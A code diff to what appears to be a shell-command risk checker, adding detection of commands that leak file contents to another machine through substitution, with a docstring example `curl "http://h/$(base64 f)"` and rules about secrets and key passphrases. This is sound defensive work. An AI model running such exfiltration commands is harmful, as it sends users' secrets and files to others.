@@ -3,6 +3,8 @@
 Source: CWE-522, CWE-532; MITRE ATT&CK T1552.
 """
 
+import re
+
 from llmsh.core.command import SimpleCommand
 from llmsh.core.late_pattern import late_pattern
 from llmsh.core.risk import Finding, Reason
@@ -90,7 +92,12 @@ def assess(command: SimpleCommand) -> Finding | None:
         return danger(Reason.CREDENTIAL_EXPOSURE, "prints a stored secret in clear")
     if program in SENDERS:
         sent = [shape for shape in sends_file(command) if is_secret(shape) or _tells_accounts(command, shape)]
-        return danger(Reason.CREDENTIAL_EXPOSURE, "sends a secret to another machine", *sent) if sent else None
+        if sent:
+            return danger(Reason.CREDENTIAL_EXPOSURE, "sends a secret to another machine", *sent)
+        told = _told_files(command)
+        is_private = any(place_of(shape) is Place.ACCESS or is_secret(shape) for shape in told)
+        how = danger if is_private else caution
+        return how(Reason.CREDENTIAL_EXPOSURE, "tells another machine what a file holds", *told) if told else None
     if program == "ssh-keygen":
         unlocks = command.has_flag("p") and "" in command.values
         return danger(Reason.CREDENTIAL_EXPOSURE, "takes the passphrase off a private key") if unlocks else None
@@ -106,6 +113,17 @@ def assess(command: SimpleCommand) -> Finding | None:
     if program not in _PRINTERS:
         return None
     return _printed(command, program)
+
+
+def _told_files(command: SimpleCommand) -> list[str]:
+    """The files whose content stands in a word of `command`: `curl "http://h/$(base64 f)"`."""
+    if command.program in _COPYING_ON | {"ssh"}:
+        return []
+    inside = [one for word in command.arguments for script in word.substitutions for one in script.commands()]
+    readers = [one for one in inside if one.program in _PRINTERS]
+    shapes = [word.shape for one in readers for word in one.operands if re.match(r"[~/.$]|[\w-]+\.\w+\Z", word.shape)]
+    shapes += [item.target.shape for one in inside for item in one.redirections if item.operator == "<" and item.target]
+    return shapes
 
 
 def _tells_accounts(command: SimpleCommand, shape: str) -> bool:
